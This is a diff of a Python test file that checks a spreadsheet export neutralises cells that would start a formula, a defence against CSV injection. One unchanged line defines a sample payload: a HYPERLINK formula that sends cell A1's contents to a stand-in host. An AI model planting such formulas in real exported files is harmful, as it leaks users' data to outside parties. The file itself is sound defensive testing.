@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
 from hypothesis import given
@@ -12,11 +13,11 @@ from hypothesis import strategies as st
 from wattshed_collector import slo_report
 from wattshed_collector.api import outcome_pages, quality_pages
 from wattshed_collector.lifecycle.told import from_csv
-from wattshed_collector.spreadsheet import BEGINS, defused, plain, written
+from wattshed_collector.spreadsheet import BEGINS, FORMULA, defused, plain, written
 from wattshed_collector.store.outcome_queries import KEY
 
 EVIL = '=HYPERLINK("http://a.example?x="&A1,"more")'
-texts = st.text(st.sampled_from([*BEGINS, "'", "a", '"', ",", " ", "1"]), max_size=5)
+texts = st.text(st.sampled_from([*BEGINS, "'", "a", '"', ",", ";", " ", "1"]), max_size=6)
 
 
 def cells(text: str) -> list[list[str]]:
@@ -27,10 +28,14 @@ def cells(text: str) -> list[list[str]]:
 def test_no_text_begins_a_formula_and_each_comes_back(names: list[str]) -> None:
     _, *rows = cells(written(("team", "joules"), [{"team": n, "joules": -1.5} for n in names]))
     assert not any(cell.startswith(BEGINS) for cell, _ in rows)
+    parts = [part for cell, _ in rows for part in re.split(r"[;\t\r\n]", cell)]
+    assert not any(part.startswith(tuple(FORMULA)) for part in parts)
     assert [plain(cell) for cell, _ in rows] == names
 
 
-@pytest.mark.parametrize("value", [-3, -2.5e-7, 0.0, True, None, "a=b", "'quoted'", "1-2"])
+@pytest.mark.parametrize(
+    "value", [-3, -2.5e-7, 0.0, True, None, "a=b", "'quoted'", "1-2", "a; b\n"]
+)
 def test_numbers_and_harmless_texts_stay_as_they_are(value: object) -> None:
     assert defused(value) is value
 
